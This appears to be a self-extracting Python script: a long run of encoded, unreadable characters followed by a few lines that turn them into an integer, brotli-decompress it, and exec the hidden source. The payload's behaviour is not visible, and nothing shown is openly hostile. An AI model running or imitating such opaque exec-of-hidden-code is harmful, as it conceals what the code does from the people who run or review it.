!1kh.R*ci>Ѱ(q7^j,oUKȄiw%?e_ۂƺ93Jhч]#ʺ	*jKKgq(dF^֩kWc^̯/NRg[bͰei/!IRQ;hf`̀ͺ\1*ۅ)+Z{wP>@ʫJxSXӦ#,d2/ 	lѭěfBP$P͛8UTд|Jƨ
zcUefq +ܒ}4&=Jt\LS
)=ϥsdx-49$ޢ+\0eNQ<{Y/G2ͼb-Q	SlU-9mHҹR-k]kў]{|ahbu@d:Pk};tΓӎqLԞJ[;kީnVciMYܗ yl:bW׺1ˇSh}7.!Od	hwIt#_@J5}R`_WNxڀ;8enS׌֬FeFT
.X7yI2ܺyOOMY֔hR.F۟9e~p5ur8b~̨3DlsY̷ǡjؾ<¿bńBn,\>~8o8ݥ_m+0֑֫@ġЯx=PMPզO~ x֯R
%uwJAԤL^|	'yL$yx[iNW_j]Q`In*df;<Y1Cid{Km?p6թy@½=yǸyL݊'%,^}VlgI܂Eohh$opzXx|T7ݺڔi`h׽/WqQ|-^d7"a3Ty@TOnDL:)h{,'(dkw5I4ۣJ>/t4;@Rd#l\p[&v\s-_d<[{BWoeuub0۪_Q,+(fMҞ^qM.YݑfxN0/$4GlB!`ۚfg+r3I7~Jڄn
ٮHڼq͈$hXe/7Ur^ղFب{hzyP;=qN|7&ԙLv-ڵ	DAkİC[RN	Yumt$kا"cd	Q-;*ki-Z[X2݈#;CvSp	l{"MpP#eQȰZ*T>nDD|Q~ne!1n_Ym_ŀ9F-ȌMIc1	pRc,!Yy;roGS1ڹ}(DE{94܀'~Y=NՆY`Ի>W+R¹<]-`W}IM\r)s$K01!Խ|a^b|l]إDka//\ħ"?g-!ղɦjVI_@inRSSW Aވ,G/ty(:bޭ6XGӔR~źB4X;ܭ;*̑Ճ?^f{99Z;ƈO5Qj *"čwl6K]ޑYO6МSI
\f[ZV;^*lK+{g(%ۣb5G#
]O=Yt\ÙTāM+Ld!~)̉)8luɋYoi;xSTb$EI)*qt)719l̸6MәcAYY'Q&ңq;Y|!)<ڜ
үȪa2,v(?ŵV$U˼[wRMbOeٙHq:7}d9dUήy&JU_.DɒEHLuoaq9 (p97#%CN?DSv+m$dſٌscLv߂`:=է*χ8*yykDi>w7ތi>WJۑ,rѽ2XW+l݆¡)SzP$A
P|9h"70@MXݺZaѿL*w"@>œE\
ܥoccF$eڂsLTZP°Br38kҼ~څsƁ"pr>HNs' 
fAby"4SQS4b|	wE>CjQW$2GؖGI6H&kGO)KUɸ1w7fd?օÄ̂m0)͹e~+Ժ/֪Y$S<2GٿX]b<xUg>='كib/	Oi]XJ
BG%+ (cڨ04ҁ`YՌzs93Lҋw>u\6Pd&U+	tm-}Bt(fǙ 9Cm9.<|2/#i\=6ěkxK|ƊϕXX\-ێõX̳Lv!UK]<|bFeoG<V&EOTp`O\n+[u՜Ány$ΒKu<I+#tjܣFlЖ`'-u?7	)`nBZPO-jzbV* @y<}0kjE}92>Ρ&\?3Dחo:ͱc.zܥxX\Vw2XmCe[ 8C,hEN.llBlX߉JsčwOt!E(tz&4Ehر^r1CnK)P$XȠp`+0n]u3zhΙkB*] `	ɜf:;&nNh*%$bP	Ė(QeV*&ډ(Q#|Q=jܠj}QK{ofVkX@Svܑ*L-ٌ҇vkDhi3HC
N](\+?ۿh?UyЀmNMl ~am*-;>Ƃw9(Gum̳?z	 ?~FQY'*d,V(\ŮR9Ķ=%";\ρ^ݜhڧ&y F hx^t	B4nV-1q}=|I2:lur!ێڕCzebj5 ̴ث`J]'@ӘF)<ÙR8ӵKb4>ބATc_(Si۔rՂVY߼d>?}d@Gy
Kfiua;g͙~1\bq,@SX&ڵȗ1x4uK=xa6dz>n^dޞDsڴ\	ī(Ҫ:\guZmM\nP΀VɕΑ02XùMX&s,bس<b+s?SFnibGEX8,4;tڃxR4-޻>h&#R'9]lq5V9b6SYХ$P9NJlmY&!׬рvހn&kaIwzQ!XWe.[QwA6МAZ-+p޽-VPpqСk*"sѥQ 	rtR7jb$\^ÒAd9Wqc߄lށClzʐ&r,%xB ̫wEZLƹΓ/1o'F?gS^ݮŞT-hz}A2!?ST)VJ8U*	sӠojbB([]d]}]Okԡ<0}l	ޓ"ŬCJD2QA}E\xcyqaŨ2}:nބ2)k#[ݚw
Eyp	mmg$@8`Ycl#O&XߡZ%L H*
UţIvOcömo(OCdq{/l+2cTG^/ X.7d.Y|q0<5r.4>¹nپ8WC:OZ3;H1իm^̱jTNR֏	j¢CBr)`ٹ1'-h̾}
I.Vtx[p0cB7Cc&8Hw)b<0tEJ\CKg<
/y^,Ui>f"7"K.ݠ@n"nE	u6g!rfxb%Y(cVOشx͇6rtkS<zxs²d:"	Xc՝"Л
]=Ʃ9$<Ty-1>y߅TC̆fd:XlB;fÜ-oV	&hĆUC>DABv;a34|ՄK+z):PY{4FhBh&sݦ@߳ӚrTpȏyL_d(h$VE͸x$;w*ZDth#* {#
mAUݳ"Y0j$&itr#+ƃNe%D	]UJ.M9a+o^!x\{]ґL$y#uc![ L1L1{q]k#@HY8ٞd!u,ܷK?Ek9|@
V?u'HT[$8͎ :k >>Nb8	٦&Ucb^`eW'ǘ5#Wqw7{J)Vl2eVppS!`UΫ@SISη^2ˬ(hs5|5JąohǇRgwkȾQU<0-'u$^#ta{XҩX0<:ֈuqPqK3kҷVPvxz4D&f$|<X`UN)4NaT6SղK+]@+4NM<ă'vO`x	܃Nm3b#ݞ8)TS=z#kUyH)ށѶD|(M'58Uc.Wfϓh~CA[P1Pŵg:GD|`.V	|m;IH`0"!$%o,ӤACM}}ӹ
֋ˊbd˒$1_#aZ߅`+J~S^UQc͇23EK`kGex',Eؤ̜P0hEʁ^*ݝOg["lyPH&pp3݆:11(%,]kUEgbĄjDRӸ:/az+tjٕоm$Z/f
Z|R.bVٓxaqvձR9Bj5ˈn]Z νYdtNޏ2hAڞߤiNvCjVԾ"WGߑd)g0EʹR%U7rc}ѧz%nrN)hcuU
EcޘS"+?|ǺZkh7al5&Ix8Y#˚ȃ@]iT[WةօKٟdx;/m'uçwҜ1}xw|eKl;@"B&EJĥ{p!U>p"G;߷i]ZBōIG _#,E~wCt(2[_"ݼko{^rѯNظK%,sI4نyFaI-f!?}y+.?`QH$ΓcVzrvȈĈ7o=]*|=2<\lƚF%X,Qxp,(W8uK]@s6K`MQƆ&I/+>u?ZP2R0hTV;c)tK\^pwK)j>Ң\[!p2OO	J3zƬ0]wv]Q7@2{eu=U,՜k]8W8wYPpͯ734})Id#pX7}bgB"KiܾcLٍ3jm[O	"oS>EMN6.j)$PV{1ɕ*|}'ҝ݇U0أ@.V|^$3^vpPN*

!<	rKzxQ+zfcƹH4t#}5F&@3]ؽcj1>тbv*
).S.H/2cz=ops:Jnyu|PeQ-Fc͟Q	u(}b?!GHa;Ԟ{mNd§ƹpViM_a ă>9};;
Ai<l_Vg|3|O| %aaTkDޑ}.g"1fɱ:ǄH
\Qܣ~"|09ąD׽)aߝԑD.!:?^3!d?F`s(]5b\b5$˷3MRjyM{-;&QL?C#&r7&<G:*$]rNy}xA4%YQR[PI%J@1fZ?ZߵI+˙F:9L.G&>޼"I7Xj_P
ÞҒ)_Ү*h[p2póh8أ)S_y!gb"R$
9MܯA̉ -v!hF.u?`NZ=t|`K'oY(%=`WDPyWon% E Dcf^$VAB%y>|ɫ_<Z3rn&F
pwLOv?-7|'1ZG@:yw~@8h:RWW95Yǲ-OGA?]JYLӍ 	&(ɞry-ubA6
:G_M(JsVR!,^ЛB;Eעooŝb)Dc9%+Emzs]տ&'}8nބ\Epbإתa:SWCtj_TIX;MUQ+Zٜ^؂7Yi0h/ۙB#Xu
$cE62>KԴѶjP
RQ&q@1F_(QӀO
K0d"fha1''+/s;a|,+ƶ$B6IY7خԽ(ƂTmi1e-DNp'`VƏoe%t]_a9Ve/®uXX:5^,tXʆm(z5J:N;yn"Y-6y)=nP04V.hL9ܛ-F8Ӻ.+/Ò6TNwERNr0icDlV_pUls̓i̎uvץ7,ִNh@)9˒_6ىNiYʂzQ{39NOO۩Zptۣƚł#q<r'%cٞ9sH1/ԛ*nYM>ݪwޏ =r
6Wq>rPӢzOmֿt.sj>҈ݴڶاIvͳzhrml.,MtUg܂\*XZ1X1O<UZ"VOn#цq;JZ{OQ2z:^^D~D[/hRISC#D	8uQk>@ط:ag.4%xCG֬,ɔ7ʎmJQK(pn5ZCXvdÛr.3WJ=p1z{Xsvd |LD,(G7Nzo(=9wȉ5uZ&XrU*SڙVMo-ң -6J"Q͙8NǚAw:\98|ލI ^Aă:wԤn\~Qɓ	2jE/هz~856NʠCh8̳nnVTjvWEDClѕ24xݙ_ۜ?|o2G1IP/udLWf QzsZ=
mۻ2SQL-΋joM+>d[YzƇ9lH:'0/ڜ841d!y/D`c#J?N;=O͆k(ׁNF!Ƒ(F6%dj}>чd6hh|+Yːo;y_a#lL`rBRW!6#g#**"]pKOfїܼکy|V^gh+~܉ڙܤ"4ՅmXb<@&ƷKdƜ33g?hGY4sSU,-ςӾJ˃lGxssV́E͖u4H(\*y*LdBޜ;/<a9g21A]OjAD݃}.݌d{G"b& <C7fÝ\J<o˞]vl!d,GL3ziDy
9\%bQVfY1JQ	3Uƾ?5,R"0E'!0!`Mp{oweޒ^Н$9;6RsW`lL۹37kސe?"k˟CF}
#$>oa9APɅ,b~p$kv݅!o7F=FG)~I%H33lՉϾ}Nyw{Q^֋r4|Q4k3h̴z9ؓY6y	t	|cs5JxQ1NTtƒL$)"y*z	'&ۥ3^kEųt,3Zlu%<JMyX@R/^Upz_dp1xdD
 lDdzdhA=T'K_ 5p5 H;4V_AܺL=A)'z-7SZ/bumX{YɦE?z"3۴t:<[?y:tqH`pʹ=ZR̯m3G
!f_RP7̺YU$ia+xҚKޙmLԲɜ4i_Lٷ̀Nºh0]2Mt8%It=yVޤf5XAC҅8o`|{0B;6
}&HAؖxA>m/>agb9tr'#Pz^Y"A[Iݼ&:>r2g|5aJ>"/{qt2bƥޗħq;#bRKwxgr(ww΢( hyb9JV2ğ=uTob@'}$҅LY޼<ej=I{kxÜo׋%s_n%HoО+@`[>y1;Sz@Wl/I95=_ҵRA?uFV\Չ[.e:\d7;Jk{5Js;>,:sÆu9bC'i{ɿ}|VP
UQ|@'.1Ym3>xEs(#ϕ$@;"ك,h}*pɭ|Lq&65 BӅT`?LAH+?$paɱc:4̺N; an!@E:XAId1߆229}v>ruWq(x]NEeS6Mw_Ť"߷Iaͷ7/9qo(Kw(,57PͻFs=Kk6Ԥ}%|A5LÕٸ1&BG+u)nӑ/7Vz7oV&!$tWBh|eZg_ծ߶/o!ʿ1Z+cxb"[s4}e^mztۗ]V1Ic/ҧf&pn~{OWWԺٍtIRv){J7Wʟ6ݯ@7(?2Ɖa׫4b6٩ڿncWNLmy>{ٸ^o{kE*K&Qa؟l:Im8|Ƭ&Dpؠ=ܚxeٝ.}#!"F@g@`=/`CWα=hϹ*g\ҍї~U$TנןPu7.iQIŌMywL6XۛS90GWePv-{!zJ7I{\?"bȍ<"Ƕcm'ÈFug~95{K-'ŵ\zl8nd)ioXBj%nӟPp$`_*ƒǀ!JR2p{s`ijjRdN. 2:R^./5џk;wʠx&8wj@ G\1RАZ4ܞmڊU!>"Аأ$hVR=&ٱZC31\Tެ.Ʉ@Lc/hvȸ4ޟ!ѻR<t^"ԑB#1=,ܞA~09%9eJZRIugU?|.(!M7ZbF3'&c
k14|M	5T=IfhޅR[uhoJ#DuB
_}qb%PXكͿGi{:L1[-ү͐dFxRI	רhi#%p+Ђ2k{s[/.OǆKT*FPo+CZ0%mYڇ0fԳ#e2-bkK[5;#/'&`K{b&jh LTJTOc/S]Vy12GeFVyacSq/m}fO/&!ǅ'1eq(un6dwژq]ߒ2A~1kV*a/px@P9Iܭ-׶%R7vrdCӧs"6YN}hH1;mK1.Z?5xw܄Q(jR`ZW
`غE3ݓ#\'7,\2`ʶ"e`.&]4#*Cv	
	Y}Kє&#wi3ISDfMʞmVGLDH_
 Նb7݌f4[>ӷ+efkֆǏKHOɁ8!udrjGأ&	^]JϺϪN3%wnGrRۘj!ƥ[.@MǆD>pPM3RP^ui@w=cSEȼ:vJ·kHXl@!/8\ҵ%Qa-<K8ȬuY?n)5͟	BH[py$Q7s>wSoZ&`\xUNϭt(i2k*	zt4_lŨ},}vH
c;ګ};'Bq:gM2]y^T]?xag6ɔv=>$ç%=7,<Ẃ-xTjr۝'<{,؅tdx	u\0=q"^Ym\!,ʆ`7)-Ocsܾlٺ%Ժօ-i~IJY	(إ$۵8.ڸ6|IķXO"iՋԿWZ$d;+:Lb!-܎ábXXJX*3ϩO>GCZ}@qi\Hܐ#F/TK$deɃЏ@Lq
dG>>{E#ǀ;|FR;HRG1_Tx-$XC̱+-6t+qGtוr9Ƹ7*`WmN#^v|G1.g<="+|Y52ŰڑDEw}|d[vÃҭn0ϖj;Olؤ4~d8D3
F&ͯf$U
ZyȂ.fO/ete(?aG˩sJvL?g~q"LAcNLR9Z4zJ(9fiMjA%&[0ƪ;F~-%ѭ~eax_,N{"EY+w@dVʣ6)MǄ]f<1_ͦ*R<p0-\ |ǘsp6fD֪b#-G;msimԐ-hJ<M˲eN27k0~jZ`9#Jl<gqsYrIZ)2ނw0<R	*KJ K1kt߄iceF~ڸı5.\ӯߪi=zǭzPAE4;q۟o TnWo.ARGYBN"˅,jiExC0j3f-l6g*ľ	ӳʨ:F2lJPGe1Gey){nǖfr0Yܪؽƭ(*!!ؠ'"ڼ*/JΥJ?ӻ̪+ǖIʼ6Gv[1$QW1ج1xТK#؝>fPUܩLr~Kù
E_WWq֗<yٱ-}ttR6KK"׬7'ͤ9ٜ.6WRX
nZka#vZj=ؑj-2d
UҨvs ؓv1٤|_q9,FYO[\,q߂ڎ4!)H^5=H.}@@@bNfԍiY*x-@Z4smG)@CܒY3&o"Ò},lwM1ލbډ	/i1u3usx/ƊBt,p-$"۱7i;xo0jjȇkER?FTue2i<i64S؅f	b.-ۚ8ҭղ_%A Ҷ8g_jP0#nz=6fErq-rޫkh߁Ombȇ!a3[T[@Fx̌ئܬЅrWͣfD-Mi4qQi
-X`<=Bpbɋt؇	sPXՉ͢jڅkMKGiFg/oN;}xQ[7̩ϒO 5/»#9	V#w3]Q۩G+xIMл]н9"
a16N"?Ր/0xL
9k<(+WI' HWקHܗ7$Ҋ\qKj#´-TN_Ǽy\W(3BOIy݆FԐ.iU2jέkFf"'[ie<u;`8lzGE2ݿ+~9jzJUXrmWpHEِN8qnTѳ[ȼ;qm=	"I12io$ Fnd-W7~},c#GNc2(͝bbN}?NӖI
A-T9:9XŜx&_OyUc+׍tч5R_$Ƈ'z< G
;%΃A}NԮX	"݊].6i1RɛvZnctLEĜʅ7^ޙpDdCv#6
^=v6"!sZ.	)0+NߏNmqj­m]'
sURĜ;AHyqTݒʟnB׀vrXB9e)A3tԘ7h`Brǫ\\^NxE]+1s2lãeTɂ|r!&9̛V/_0N5|RHsl6(b`6^ÃN"xUTLWQƼ*զY	YU;1_ǙUN;5#W11Q_"^1xԎXbɃSpghL^ƈ9_[г)iH4lRn	*;wF[7%u:xɨ>cWޓYjP/|U7|(3YȚ%%G	B"Ue1ݑ72̐rrV[{IQԍ)H!kЀ(3%'Cּՙpƅ?(J׸Q)ȸ-ӫŒ!iٚVk8oʝ"#FS ʁ#߉ǰ]bqި73=PA/)'BɚQ1^ ٞ17cl	Uє_>0bWzms28CVy؇=9N\|LRFo#qʮnrIo.LߢY}jT)=VPZchpc4ėsäB vM,$wzڰ~`7#yL!vrj#:AO.V%9x?1ޭ:5rVd1NK>	|.ؐ*9;vQSV-ޠVc_ڿ
Պ9H?;VМe~4xi2a%3#ؓ+'GԱZ*Ğ$C8IWF!~rg9==8gy@ôް 6D̷i1h=̮Y̘%!qt{ԀNU=v܎97pbzSv9[I<ٯ:ik"7aРg(ˬt7	˷GAӱA+OZp^1z<(0b]Բ)g*3hQMEȓQ;xO;.Xw|%ϖzo4нEȑ+6NJJ֯ێo$K
)B-Lla0`+?О\.%Q5|D	wͥ3G46\@ި@?SpڵMג6$ѧ16i'><|ةi)G'pүWsϚڪӓL3)|3`^ޫvG_j>ߚxaWC+X)cyR+^@ң0<cu
{||}IwFw583Xhæ$Q90jr11Ij(ShG͡jʂ܅gԖs%srYs@Wڪ;_QnE02ODW16ԼI$/
|40G]ݫO|;0WĴE؞WY;?۪=ZFәWx~Cȭ}+kv`6AjϿKn'HP9ߨMirɄf'^/ݸqYikO9Z~n5Ļ1^ݤsα^HaUO#pwawI=KHܲmݹaΝB'aFa$aʡA>!/}B [dϕK6ʷBktϚȁO#llG_<ԄI/,R^\E4fZ[KfԒߓ2:Lkhz
fٰy<b|bw+cc%J*$nmy%_(`MDاa}iO^R85v
A(@%ݦҷ0T;%ȤtX-ſV-WuzGXўm0>GWm>>m5^A@%um)@(_Ļc8;Q
*2ZGdt`RFEk /G~"{<xZ۴	JyfDzIΏ	t=un5'^=QP7()J7j	9<w5۝=@ܜ5God}eV%L,fjQiĶKӮ>\Qoj{%02	;05];ӓ9eRmN޲1T2UՒ߾ugWӆ֋|iTƭ|Ɂ]˃Y&ަsHTlͨcQoa'[cM͜[rW9ClsfK	5˶O6й?G";3 9ΜHh(B[3d|ƯmG"HɯK2ϥF{"Wph/Y)\l6Y)SHHL`MYwO 4tĤӂR)ԧ[Qnw #+o#+cpX6VjM86[4Z1#*l'CAx7p"[@v݉s/zم/V5_Wc/ɄgЍ˸9O62r43ٸvkܭN)Uwt-+|yLͩdr=ecSFݢ4߫-C(!ޕr{d	̢bpԬgKv?ݕ^Kpa~--tSDd=?Jj҈hjuxn'ŦU(
ZͧÂP<(btA"@y/I/7{&[yx^WEY9qS:o8fPq+ZX4Uޫb	4_ܭz!gOTiɩ_mSʮ\8FtI=,Q&GJw9Đue:,\(FBfwR(SE?EM\ٗG?Wε75S""1՗A4-Ǟ`[ena$?]4Ǜ^ثjqW4Ylu7Yղٸ:rP}y]ʐAAM 05}>/${Pmd&Zx8>> f >A¶ӷE6?.(%JstRZ aG˕r̽$7[P,d)$D{Y̅}ɴJK4J.ͣ9OE#&ʈs]GW6ǯJ''':
 o=ord(c)
 for x in([o-1-(o>13)],[o-128,126])[o>127]:n+=x*b;a,b=b,126*b+1920*a
s=brotli.decompress(n.to_bytes(25381)).decode()
import linecache
linecache.cache['<string>']=0,None,s.splitlines(1),0
exec(s)
